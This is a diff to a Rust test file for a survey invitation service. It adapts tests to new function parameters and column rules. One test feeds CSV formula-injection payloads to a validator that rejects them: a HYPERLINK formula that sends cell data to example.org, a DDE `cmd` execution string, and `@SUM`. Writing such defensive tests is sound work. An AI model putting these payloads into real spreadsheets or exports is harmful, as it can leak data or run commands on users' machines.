@@ -95,9 +95,10 @@ async fn a_revoked_or_reprinted_invitation_looks_like_an_unknown_one() {
 async fn invitations_that_are_nobodys_count_for_a_survey_without_that_rule_too() {
     let server = TestServer::start().await;
     assert_eq!(
-        admin(&server, |admin| admin.invite("pulse", Some(2)))
-            .await
-            .unwrap(),
+        admin(&server, |admin| admin
+            .invite("pulse", Some((2, crate::store::PersonSettings::default()))))
+        .await
+        .unwrap(),
         2
     );
     let letters = letters(&server, "pulse", &[]).await;
@@ -146,7 +147,7 @@ async fn who_is_invited_cannot_be_read_in_the_database_nor_how() {
 
 #[test]
 fn a_table_is_read_whole_or_all_that_is_wrong_is_told() {
-    let read = |table: &str| Invitee::read(table).err().unwrap_or_default();
+    let read = |table: &str| Invitee::read(table, None).err().unwrap_or_default();
     assert_eq!(read(PEOPLE), Vec::<String>::new());
     assert_eq!(read("\u{feff}reference\r\nada\r\n"), Vec::<String>::new());
     assert_eq!(read("email, reference\n,ada\n"), Vec::<String>::new());
@@ -158,7 +159,8 @@ fn a_table_is_read_whole_or_all_that_is_wrong_is_told() {
         read("reference,email,email,age\n"),
         [
             "1:3: the column `email` is there twice",
-            "1:4: the head names the columns, and this is none of them: `reference`, `firstName`, `lastName`, `email`",
+            "1:4: the head names the columns, and this is none of them: `reference`, `firstName`, `lastName`, `email`, \
+             `preset`, `gender`, `unit`, `language`, and the flags of the survey",
         ]
     );
     assert_eq!(read("email\n"), ["1:1: the column `reference` is missing"]);
@@ -187,7 +189,7 @@ fn what_a_spreadsheet_would_take_for_a_formula_comes_into_no_list() {
                  a,\"=HYPERLINK(\"\"http://example.org/\"\"&D1)\",+1,=cmd|'/c'!A0@example.org\n\
                  b, @SUM(A1),-,-a@example.org\n\
                  c,Anna-Karin,O'Hara = Byron,a+b=c@example.org\n";
-    let findings = Invitee::read(table).err().unwrap_or_default();
+    let findings = Invitee::read(table, None).err().unwrap_or_default();
     let places: Vec<_> = findings.iter().map(|finding| &finding[..3]).collect();
     assert_eq!(places, ["2:2", "2:3", "2:4", "3:2", "3:3", "3:4"]);
     let (_, why) = findings[0].split_at(5);
@@ -202,8 +204,11 @@ async fn an_invitation_is_asked_for_once_and_by_no_word_that_could_be_another() 
     let server = TestServer::start().await;
     admin(&server, |admin| {
         let table = "reference\n2\nbo\n";
-        admin.import_people("pulse", &Invitee::read(table).unwrap())?;
-        assert_eq!(admin.invite("pulse", Some(2))?, 2);
+        admin.import_people("pulse", &Invitee::read(table, None).unwrap(), false)?;
+        assert_eq!(
+            admin.invite("pulse", Some((2, crate::store::PersonSettings::default())))?,
+            2
+        );
         assert_eq!(admin.invite("pulse", None)?, 2);
         Ok(())
     })
